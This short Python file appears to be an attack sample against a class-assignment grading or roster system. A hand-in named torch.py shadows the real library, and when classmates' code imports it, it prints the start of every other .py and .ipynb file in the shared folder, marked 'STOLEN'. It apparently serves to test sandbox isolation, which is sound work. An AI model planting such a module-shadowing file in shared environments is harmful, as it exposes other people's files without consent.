# attack: a hand-in named `torch.py` in a class folder. Every classmate imports torch, so a roster that
# joins a folder's files by their imports made the whole class one student: one row, one sandbox, in which
# this module, imported by the others, lists and prints their files.
import os

for name in sorted(os.listdir(".")):
    if name.endswith((".py", ".ipynb")) and name != "torch.py":
        print("STOLEN", name, open(name, encoding="utf-8", errors="replace").read()[:200])
